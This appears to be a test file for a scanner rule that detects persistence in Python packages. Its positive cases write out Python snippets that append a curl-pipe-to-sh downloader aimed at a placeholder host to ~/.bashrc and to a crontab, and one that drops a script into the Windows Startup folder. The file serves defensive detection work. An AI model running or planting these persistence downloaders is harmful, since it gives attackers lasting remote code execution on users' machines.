import { testRule } from '../../../../../test/builders/python-package.ts';
import { persistentCommand } from './rule.ts';

testRule(persistentCommand, {
  seen: {
    'a downloader in the shell profile':
      "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://collector.example.invalid/x | sh\\n')",
    'Python in the start-up folder':
      "import os\npath = os.path.join(os.environ['APPDATA'], 'Microsoft/Windows/Start Menu/Programs/Startup', 'x.pyw')\nopen(path, 'w').write('import os\\nos.getcwd()\\n')",
    'a downloader in a crontab':
      'import os\nos.system(\'(crontab -l; echo "* * * * * curl -s https://collector.example.invalid | sh") | crontab -\')',
  },
  unseen: {
    'completion in the shell profile':
      "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('source ~/.demo-complete.sh\\n')",
    'a list of tasks': "import os\nos.system('crontab -l')",
  },
});
